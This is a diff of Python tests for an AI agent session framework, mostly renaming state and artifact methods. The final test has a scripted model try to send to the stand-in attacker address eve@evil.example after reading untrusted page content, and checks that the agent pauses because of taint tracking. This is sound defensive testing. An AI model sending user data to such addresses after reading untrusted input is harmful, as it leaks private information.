@@ -279,13 +279,13 @@ def test_what_is_said_to_a_run_that_goes_on_joins_it_in_order(sessions: Sessions
         await until(lambda: sessions["ada"].writer is not None)
         for n in range(3):
             sessions["ada"].say(f"and {n}", who="bob")
-        await until(lambda: len(sessions["ada"].fold().queued) == 3)
+        await until(lambda: len(sessions["ada"].load_state().queued) == 3)
         release.set()
         await task
 
     run(main)
     assert texts(model.sent[1]) == ["go", "", "let go", "and 0", "and 1", "and 2"]
-    assert not sessions["ada"].fold().queued
+    assert not sessions["ada"].load_state().queued
 
 
 def test_another_process_can_stop_a_run(sessions: Sessions) -> None:
@@ -329,10 +329,10 @@ def test_large_values_are_kept_apart_and_come_back(sessions: Sessions, tmp_path:
     ask = "SELECT digest FROM artifact"
     rows = kept.database.read(lambda connection: connection.execute(ask).fetchall())
     files = tmp_path / "talk.db.artifacts"
-    assert rows and all(kept.artifacts.found(digest) for [digest] in rows)
+    assert rows and all(kept.artifacts.find(digest) for [digest] in rows)
     assert not files.exists() or {file.name for file in files.iterdir()} == {d for [d] in rows}
     sessions.delete("ada")
-    assert not any(kept.artifacts.found(digest) for [digest] in rows)
+    assert not any(kept.artifacts.find(digest) for [digest] in rows)
     assert not files.exists() or not list(files.iterdir())
 
 
@@ -366,7 +366,7 @@ def test_what_one_run_has_touched_is_known_to_the_next(sessions: Sessions) -> No
 
     tools = [page, send]
     Agent(Scripted([call("page", {}), "read"]), tools).run_sync("read", session=sessions["ada"])
-    assert sessions["ada"].fold().taint == {"stranger": ("page",)}
+    assert sessions["ada"].load_state().taint == {"stranger": ("page",)}
     sending = Scripted([call("send", {"to": "eve@evil.example"}), "done"])
     result = Agent(sending, tools).run_sync("go on", session=sessions["ada"])
     assert result.reason == "waiting" and "page" in result.pending[0].reason
